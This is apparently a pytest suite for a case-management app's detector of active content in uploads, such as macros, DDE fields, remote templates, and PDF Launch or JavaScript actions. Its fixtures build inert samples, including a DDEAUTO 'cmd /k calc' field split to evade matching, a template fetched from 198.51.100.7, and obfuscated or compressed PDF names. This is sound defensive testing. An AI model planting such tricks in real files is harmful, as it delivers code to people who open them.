"""Files that act when they are opened: found, taken, and held until a scanner found them clean."""

from __future__ import annotations

import io
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from casework.files import acting, scanning
from casework.files.acting import acts_of
from casework.files.kinds import type_of
from casework.files.received import opened
from casework.models import DocumentVersion, StoredFile
from casework.services import documents
from core import jobs
from core.models import AuditEvent, Job
from tests.casework import files

ENABLED = b'<Types><Override ContentType="application/x.macroEnabled.main+xml"/></Types>'
HTML = b"<html><script>alert(1)</script>"
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="http://198.51.100.7/a.dotm" TargetMode="External"/></Relationships>'
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ODF = '<x xmlns:o="urn:o" xmlns:xlink="http://www.w3.org/1999/xlink">{}</x>'


def related(kind: str, coding: str = "utf-8") -> bytes:
    text = RELATION.format(kind).encode(coding)
    return files.package(files.WORD | {"word/_rels/settings.xml.rels": text})


def fields(*pieces: str) -> bytes:
    """A field written in these pieces, as Word writes what was typed in several goes."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    body = f'<w:document xmlns:w="{W}"><w:r><w:fldChar/></w:r>{runs}</w:document>'
    return files.package(files.WORD | {"word/document.xml": body.encode()})


def odt(inner: str) -> bytes:
    return files.package(files.ODT | {"content.xml": ODF.format(inner).encode()}, stored=True)


def pdf(change=None, *, packed: bool = False) -> bytes:
    """A PDF of one page. Packed: its objects lie compressed in streams, no name in clear."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    if change:
        change(writer)
    if packed:
        return _packed(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _packed(writer: PdfWriter) -> bytes:
    """By hand, as no library writes it: all objects in one object stream, a stream for the list."""
    root = writer._root_object.indirect_reference.idnum
    bodies = {}
    for number, body in enumerate(writer._objects, 1):
        out = io.BytesIO()
        body.write_to_stream(out)
        bodies[number] = out.getvalue()
    heads, texts, at = [], [], 0
    for number, body in bodies.items():
        heads.append(f"{number} {at}".encode())
        texts.append(body + b" ")
        at += len(body) + 1
    head = b" ".join(heads) + b" "
    stream = zlib.compress(head + b"".join(texts))
    last = max(bodies)
    result = b"%PDF-1.7\n"
    holder, listing = last + 1, last + 2
    starts = len(result)
    result += (
        f"{holder} 0 obj\n<</Type/ObjStm/N {len(bodies)}/First {len(head)}/Filter/FlateDecode"
        f"/Length {len(stream)}>>stream\n"
    ).encode()
    result += stream + b"\nendstream\nendobj\n"
    begins = len(result)
    rows = [(0, 0, 255), *((2, holder, n) for n in range(len(bodies)))]
    rows += [(1, starts, 0), (1, begins, 0)]
    table = zlib.compress(
        b"".join(bytes([a]) + b.to_bytes(4, "big") + c.to_bytes(2, "big") for a, b, c in rows)
    )
    result += (
        f"{listing} 0 obj\n<</Type/XRef/Size {listing + 1}/W[1 4 2]/Root {root} 0 R"
        f"/Filter/FlateDecode/Length {len(table)}>>stream\n"
    ).encode()
    return result + table + f"\nendstream\nendobj\nstartxref\n{begins}\n%%EOF\n".encode()


def script(writer):
    """In the list of scripts that run when the document is opened."""
    listed = ArrayObject([TextStringObject("a"), _does("/JavaScript")])
    names = DictionaryObject({NameObject("/Names"): listed})
    listing = DictionaryObject({NameObject("/JavaScript"): names})
    writer._root_object[NameObject("/Names")] = listing


def launch(writer):
    writer._root_object[NameObject("/OpenAction")] = _does("/Launch")


def opens_with_script(writer):
    writer._root_object[NameObject("/OpenAction")] = _does("/JavaScript")


def _does(what):
    key = {"/JavaScript": "/JS", "/Launch": "/F"}[what]
    return DictionaryObject(
        {NameObject("/S"): NameObject(what), NameObject(key): TextStringObject("invented")}
    )


def attached(writer):
    writer.add_attachment("a.exe", b"MZ invented")


def opens_at_a_page(writer):
    """Where to begin to read: nothing that acts."""
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])


def locked(writer):
    writer.encrypt("a password", algorithm="AES-256")


ACTING = {
    "a page behind words": (b"Dear colleague,\n" + HTML, ["two"]),
    "a script": (b"#!/bin/sh\necho invented\n", ["two"]),
    "a PDF that is an archive": (files.PDF + files.package(files.WORD), ["two"]),
    "an archive in a photo": (files.photo() + files.package({"a.txt": b"x"}), ["two"]),
    "a PDF in a photo": (files.photo(comment=b"%PDF-1.4 invented"), ["two"]),
    "a page in a photo": (files.photo(comment=HTML), ["two"]),
    "macros": (files.package(files.WORD | {"word/vbaProject.bin": b"x"}), ["program"]),
    "a type that says so": (
        files.package(files.WORD | {"[Content_Types].xml": ENABLED}),
        ["program"],
    ),
    "a sheet of macros": (files.package(files.SHEET | {"xl/macrosheets/a.xml": b"x"}), ["program"]),
    "files in a document": (files.package(files.WORD | {"word/embeddings/a.bin": b"x"}), ["files"]),
    "macros of OpenDocument": (
        files.package(files.ODT | {"Basic/a.xml": b"x"}, stored=True),
        ["program"],
    ),
    "a template elsewhere": (related("attachedTemplate"), ["outside"]),
    "a template elsewhere, in UTF-16": (related("attachedTemplate", "utf-16"), ["outside"]),
    "a picture elsewhere": (related("image"), ["outside"]),
    "a field that starts a program": (fields(' DDEAUTO c:\\cmd "/k calc" '), ["command"]),
    "the same in pieces": (fields(" DD", "EAU", "TO c:\\cmd "), ["command"]),
    "a field that fetches": (fields(' INCLUDEPICTURE "http://198.51.100.7/a.png" '), ["outside"]),
    "a sheet that asks another": (
        files.package(files.SHEET | {"xl/externalLinks/externalLink1.xml": b"<x/>"}),
        ["outside"],
    ),
    "OpenDocument that asks a program": (odt("<o:dde-source/>"), ["command"]),
    "OpenDocument that runs": (odt("<o:event-listener/>"), ["script"]),
    "OpenDocument that fetches": (
        odt('<o:image xlink:href="https://198.51.100.7/a"/>'),
        ["outside"],
    ),
    "XML that makes itself long": (
        files.package(
            files.WORD
            | {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><w:document>&b;</w:document>'}
        ),
        ["locked"],
    ),
    "a PDF with a script": (pdf(script), ["script"]),
    "a PDF that opens with a script": (pdf(opens_with_script), ["script"]),
    "a PDF that starts a program": (pdf(launch), ["command"]),
    "a PDF with a file": (pdf(attached), ["files"]),
    "a packed PDF that starts a program": (pdf(launch, packed=True), ["command"]),
    "a packed PDF with a script": (pdf(opens_with_script, packed=True), ["script"]),
    "a PDF whose names are written as numbers": (
        pdf(launch).replace(b"/Launch", b"/L#61unch"),
        ["command"],
    ),
    "a PDF locked by a password": (pdf(locked), ["locked"]),
}
STILL = {
    "a photo": files.photo(),
    "words": files.TEXT,
    "a document": files.package(files.WORD),
    "a link to click": related("hyperlink"),
    "a field for a link": fields(' HYPERLINK "http://example.org" '),
    "OpenDocument with a link": odt('<o:a xlink:href="https://example.org"/>'),
    "a PDF": pdf(),
    "a packed PDF": pdf(packed=True),
    "a PDF that opens at a page": pdf(opens_at_a_page),
}


def found(content: bytes) -> list[str]:
    file = io.BytesIO(content)
    return acts_of(file, len(content), type_of(file, len(content)))


@pytest.mark.parametrize("what", ACTING)
def test_what_acts_is_taken_and_found(what):
    content, acts = ACTING[what]
    assert found(content) == acts


@pytest.mark.parametrize("what", STILL)
def test_what_lies_still_is_not_held(what):
    assert found(STILL[what]) == []


def test_the_packed_one_says_nothing_in_clear():
    assert b"Launch" not in pdf(launch, packed=True)


def test_a_pdf_that_nobody_can_read_is_held():
    assert found(b"%PDF-1.7\nnothing of a PDF\n%%EOF\n") == ["locked"]


def test_the_process_that_looks_has_no_keys_and_limits(monkeypatch):
    seen = {}

    def run(command, **how):
        seen.update(how, command=command)
        raise AssertionError

    monkeypatch.setattr("casework.files.acting.subprocess.run", run)
    with pytest.raises(AssertionError):
        found(pdf())
    assert (seen["env"], seen["timeout"]) == ({}, acting.SECONDS)
    assert "-I" in seen["command"]


HELD = "Held: this file starts other programs."


@pytest.fixture
def received(case, field_officer, browser_client):
    """Sent on the page; the officer's browser."""
    return sent(browser_client(field_officer), case, pdf(launch), "a.pdf")


def sent(page, case, content, name, kind="court_order"):
    body = {"kind": kind, "received_on": "2026-11-20", "key": "k"}
    answer = page.post(
        f"/cases/{case.pk}/documents/new/", body | {"file": files.sent(content, name)}
    )
    assert answer.status_code == 302, answer.content
    return page


@pytest.mark.django_db
def test_it_is_kept_and_held_and_page_and_program_say_why(received, field_officer, api, said):
    version = DocumentVersion.objects.get()
    assert StoredFile.objects.get().acts == ["command"]
    words = said(received.get(f"/documents/{version.document_id}/"))
    assert "Held until it is scanned" in words
    assert "This file starts other programs." in words
    answer = api(field_officer).get(f"document-versions/{version.pk}/")
    assert (answer.json()["acts"], answer.json()["held"]) == (["command"], True)
    for ask in (received.get, api(field_officer).get):
        path = f"document-versions/{version.pk}/file/"
        refused = ask(path if ask != received.get else f"/versions/{version.pk}/file/")
        assert refused.status_code == 409
    assert HELD in refused.json()["detail"]
    assert "scanner" in refused.json()["detail"]
    assert not AuditEvent.objects.filter(action="document.opened").exists()


@pytest.mark.django_db
def test_scanned_and_clean_it_is_given_out_as_it_came(
    received, field_officer, settings, tmp_path, said
):
    version = DocumentVersion.objects.get()
    settings.SCAN_COMMAND = "true"
    jobs.run(jobs.request(scanning.SCAN).pk)
    assert Job.objects.get(kind=scanning.SCAN).state == "done"
    answer = received.get(f"/versions/{version.pk}/file/")
    assert answer.status_code == 200
    assert b"".join(answer.streaming_content) == pdf(launch)
    assert "Held until" not in said(received.get(f"/documents/{version.document_id}/"))
    settings.SCAN_COMMAND = ""  # once found clean it stays so
    again = received.get(f"/versions/{version.pk}/file/")
    assert again.status_code == 200
    again.close()


@pytest.mark.django_db
def test_what_was_received_before_anybody_looked_is_looked_at_when_it_is_opened(received):
    StoredFile.objects.update(acts=None)
    version = DocumentVersion.objects.get()
    assert received.get(f"/versions/{version.pk}/file/").status_code == 409


def test_what_is_held_is_closed_again(received, monkeypatch):
    readers = []
    monkeypatch.setattr(documents, "opened", lambda row: readers.append(opened(row)) or readers[-1])
    received.get(f"/versions/{DocumentVersion.objects.get().pk}/file/")
    assert [reader.closed for reader in readers] == [True]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content",
    [files.photo()[:150], files.png_of(30_000, 30_000), b"<html>", b"\0\1", files.PDF[:20]],
)
@pytest.mark.by_turns(5)
def test_evidence_is_never_refused_for_what_it_is(
    content, case, field_officer, browser_client, said, settings
):
    """Cut short, too large to be decoded, of no known kind: kept as it came, and held."""
    page = sent(browser_client(field_officer), case, content, "a.jpg", "evidence_photo")
    version = DocumentVersion.objects.get()
    assert (version.type, version.file.acts) == ("other", ["locked"])
    assert "This file cannot be looked into." in said(
        page.get(f"/documents/{version.document_id}/")
    )
    assert page.get(f"/versions/{version.pk}/file/").status_code == 409
    settings.SCAN_COMMAND = "true"
    jobs.run(jobs.request(scanning.SCAN).pk)
    answer = page.get(f"/versions/{version.pk}/file/")
    assert b"".join(answer.streaming_content) == content
    assert "a.jpg.bin" in answer["Content-Disposition"]
